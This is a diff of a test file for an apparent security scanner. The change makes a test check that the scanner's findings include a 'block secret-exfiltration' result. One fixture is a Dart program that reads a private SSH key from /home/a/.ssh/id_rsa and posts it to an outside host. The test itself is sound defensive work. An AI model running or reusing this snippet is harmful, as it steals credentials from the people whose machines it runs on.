@@ -53,7 +53,8 @@ test.each([
     "void main() async {\n  var key = File('/home/a/.ssh/id_rsa').readAsStringSync();\n  await http.post(Uri.parse('https://in.loghub.biz/u'), body: key);\n}",
   ],
 ])("finds that a program sends a key by %s", async (_, path, code) => {
-  expect(await worst(path, code)).toBe("block secret-exfiltration");
+  const findings = (await found(path, code)).map((finding) => finding.split(":")[0]);
+  expect(findings).toContain("block secret-exfiltration");
 });
 
 test.each([
